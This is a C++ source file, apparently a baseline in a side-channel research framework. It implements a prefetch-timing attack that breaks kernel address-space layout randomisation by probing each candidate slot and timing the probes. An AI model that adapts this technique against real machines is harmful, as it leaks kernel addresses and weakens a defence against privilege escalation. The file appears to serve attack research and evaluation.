#include "baseline/prefetch_kaslr.h"

#include <algorithm>
#include <limits>

namespace whisper::baseline {

PrefetchKaslr::PrefetchKaslr(os::Machine& m, Options opt)
    : KaslrAttack(m, "prefetch", {}),
      rounds_(opt.rounds),
      probe_(core::make_prefetch_probe()) {}

std::uint64_t PrefetchKaslr::probe_once(std::uint64_t vaddr) {
  m_.evict_tlbs();
  std::array<std::uint64_t, isa::kNumRegs> regs{};
  regs[static_cast<std::size_t>(isa::Reg::RCX)] = vaddr;
  return core::run_tote(m_, probe_, regs);
}

int PrefetchKaslr::scan(core::AttackResult& r) {
  r.slot_scores.assign(os::kKaslrSlots,
                       std::numeric_limits<std::uint64_t>::max());
  for (int s = 0; s < os::kKaslrSlots; ++s) {
    const std::uint64_t target = slot_target(s);
    std::uint64_t best = std::numeric_limits<std::uint64_t>::max();
    for (int round = 0; round < rounds_; ++round) {
      const std::uint64_t t = probe_once(target);
      ++r.probes;
      if (t != 0) best = std::min(best, t);
    }
    r.slot_scores[static_cast<std::size_t>(s)] = best;
  }
  return core::first_mapped_slot(r.slot_scores);
}

}  // namespace whisper::baseline
